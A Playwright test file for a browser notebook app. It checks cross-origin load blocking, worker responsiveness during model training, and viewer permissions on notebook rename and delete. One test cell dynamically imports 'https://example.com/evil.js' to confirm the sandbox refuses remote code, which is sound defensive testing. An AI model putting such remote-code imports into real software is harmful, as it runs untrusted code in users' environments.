import { expect, test, type Page } from "@playwright/test";
import { createProject, joinAsViewer, signUp, uniqueEmail } from "./helpers";
import { cellSource, createNotebook, notebookCell, runCell } from "./notebookHelpers";

const notebookList = (page: Page) => page.getByRole("list", { name: "Notebooks" });

/** Signs up, creates a project and returns its URL. */
async function newProject(page: Page, name: string): Promise<string> {
  await signUp(page, uniqueEmail("nbsafety"));
  return createProject(page, name);
}

test("notebook: cell code cannot load code or data from other origins; same-origin TF.js wasm still works", async ({ page }) => {
  await newProject(page, "Safety");
  await createNotebook(page, "Origins");

  // import() is not covered by the fetch guard: the worker's Content-Security-Policy refuses it.
  await runCell(page, 1, 'const before = 1;\nconst mod = await import("https://example.com/evil.js");\ndisplay.text("loaded " + typeof mod);');
  await expect(notebookCell(page, 1).getByTestId("cell-error")).toHaveText(
    "Line 2: SecurityError: Loading code or data from other origins is not allowed in notebooks (blocked https://example.com/evil.js).",
    // The first cell waits while a fresh browser measures its TF.js backends (once; then remembered).
    { timeout: 60_000 },
  );
  await expect(notebookCell(page, 1).getByTestId("cell-outputs")).not.toContainText("loaded");

  // A load the guard never sees (a web font in the worker) is refused by the browser too.
  await runCell(page, 2, 'const face = new FontFace("probe", "url(https://example.com/f.woff2)");\nawait face.load();');
  await expect(notebookCell(page, 2).getByTestId("cell-error")).toContainText(
    "Loading code or data from other origins is not allowed in notebooks (blocked https://example.com/f.woff2)",
  );

  // Loading a model from the web goes through fetch, which names the line too.
  await runCell(page, 3, 'await tf.loadLayersModel("https://example.com/model.json");');
  await expect(notebookCell(page, 3).getByTestId("cell-error")).toContainText("Line 1:");
  await expect(notebookCell(page, 3).getByTestId("cell-error")).toContainText("not allowed in notebooks (blocked https://example.com/model.json)");

  // The policy keeps what notebooks need: eval'd cells, same-origin data and the wasm backend.
  await runCell(
    page,
    4,
    `const iris = await vajra.dataset("iris");
const ok = await tf.setBackend("wasm");
display.text(\`\${ok} \${tf.getBackend()} \${tf.tensor(iris.column("sepal_length_cm")).sum().dataSync()[0].toFixed(1)} \${new Function("return 7")()}\`);`,
  );
  await expect(notebookCell(page, 4).getByTestId("cell-outputs")).toHaveText("true wasm 876.5 7");
});

test("notebook: the page stays responsive while a cell trains a model in the worker", async ({ page }) => {
  await newProject(page, "Responsive");
  await createNotebook(page, "Training");

  // Trains for a fixed wall time whatever the backend's speed, so the test never depends on it.
  // On wasm with yieldEvery "never" the loop only awaits settled promises: were it on the page
  // thread, no frame, click or keystroke would be handled until it ended.
  await runCell(
    page,
    1,
    `await tf.setBackend("wasm");
const xs = tf.randomNormal([4000, 16]);
const ys = xs.sum(1, true).greater(0).toFloat();
const model = tf.sequential({ layers: [tf.layers.dense({ units: 32, activation: "relu", inputShape: [16] }), tf.layers.dense({ units: 1, activation: "sigmoid" })] });
model.compile({ optimizer: "adam", loss: "binaryCrossentropy" });
const started = performance.now();
let epochs = 0;
await model.fit(xs, ys, { epochs: 10000, batchSize: 64, yieldEvery: "never", callbacks: { onEpochEnd: () => { epochs += 1; if (performance.now() - started > 15000) model.stopTraining = true; } } });
display.text(\`trained \${epochs} epochs\`);`,
  );
  const status = notebookCell(page, 1).getByTestId("execution-count");
  await expect(status).toContainText("[*]");

  // Animation frames keep coming: the page thread is not the one training.
  const frames = await page.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let count = 0;
        const end = performance.now() + 2000;
        const tick = () => {
          count += 1;
          if (performance.now() < end) requestAnimationFrame(tick);
          else resolve(count);
        };
        requestAnimationFrame(tick);
      }),
  );
  expect(frames).toBeGreaterThan(20);

  // The user can keep working: Shift+Enter opened cell 2 in edit mode; type in it and add a cell.
  await expect(cellSource(page, 2)).toBeFocused();
  await page.keyboard.type("display.text('typed while training')");
  await expect(cellSource(page, 2)).toHaveText("display.text('typed while training')");
  await page.getByRole("button", { name: "Add code cell" }).click();
  await expect(cellSource(page, 3)).toBeVisible();
  await expect(status).toContainText("[*]");

  await expect(notebookCell(page, 1).getByTestId("cell-outputs")).toContainText(/trained \d+ epochs/, { timeout: 60_000 });
  await expect(status).toContainText("[1]");
});

test("notebooks: rename and delete from the project's list and rename from the page, not for viewers", async ({ page, browser }) => {
  const projectUrl = await newProject(page, "Library");
  await createNotebook(page, "Alpha");
  await page.goto(projectUrl);
  await createNotebook(page, "Beta");
  await page.goto(projectUrl);
  await expect(notebookList(page).getByRole("link")).toHaveCount(2);

  // Escape leaves the name as it was; Enter saves.
  await page.getByRole("button", { name: "Rename notebook Alpha" }).click();
  const nameField = notebookList(page).getByLabel("Notebook name");
  await expect(nameField).toBeFocused();
  await nameField.fill("Discarded");
  await nameField.press("Escape");
  await expect(notebookList(page).getByRole("link", { name: /Alpha/ })).toBeVisible();
  await page.getByRole("button", { name: "Rename notebook Alpha" }).click();
  await nameField.fill("   ");
  await nameField.press("Enter");
  await expect(notebookList(page).getByRole("alert")).toHaveText("Give the notebook a name.");
  await nameField.fill("Alpha renamed");
  await nameField.press("Enter");
  await expect(notebookList(page).getByRole("link", { name: /Alpha renamed/ })).toBeVisible();

  // Delete asks first; Cancel keeps the notebook.
  await page.getByRole("button", { name: "Delete notebook Beta" }).click();
  await expect(notebookList(page).getByRole("alert")).toHaveText("Delete notebook “Beta”? This cannot be undone.");
  await notebookList(page).getByRole("button", { name: "Cancel" }).click();
  await expect(notebookList(page).getByRole("link", { name: /Beta/ })).toBeVisible();
  await page.getByRole("button", { name: "Delete notebook Beta" }).click();
  await notebookList(page).getByRole("button", { name: "Delete", exact: true }).click();
  await expect(notebookList(page).getByRole("link", { name: /Beta/ })).toHaveCount(0);
  await page.reload();
  await expect(notebookList(page).getByRole("link")).toHaveCount(1);
  await expect(notebookList(page).getByRole("link", { name: /Alpha renamed/ })).toBeVisible();

  // The notebook's heading renames it too.
  await notebookList(page)
    .getByRole("link", { name: /Alpha renamed/ })
    .click();
  await expect(page.getByTestId("notebook-name")).toHaveText("Alpha renamed");
  const notebookUrl = page.url();
  await page.getByRole("button", { name: "Rename notebook" }).click();
  await page.getByLabel("Notebook name").fill("Alpha final");
  await page.getByLabel("Notebook name").press("Enter");
  await expect(page.getByTestId("notebook-name")).toHaveText("Alpha final");
  await page.goto(projectUrl);
  await expect(notebookList(page).getByRole("link", { name: /Alpha final/ })).toBeVisible();

  // A viewer sees the list and the notebook but neither rename nor delete.
  const viewer = await joinAsViewer(browser, page, "nbsafety-viewer");
  await viewer.goto(projectUrl);
  await expect(notebookList(viewer).getByRole("link", { name: /Alpha final/ })).toBeVisible();
  await expect(notebookList(viewer).getByRole("button")).toHaveCount(0);
  await viewer.goto(notebookUrl);
  await expect(viewer.getByTestId("notebook-name")).toHaveText("Alpha final");
  await expect(viewer.getByRole("button", { name: "Rename notebook" })).toHaveCount(0);
  await viewer.context().close();
});
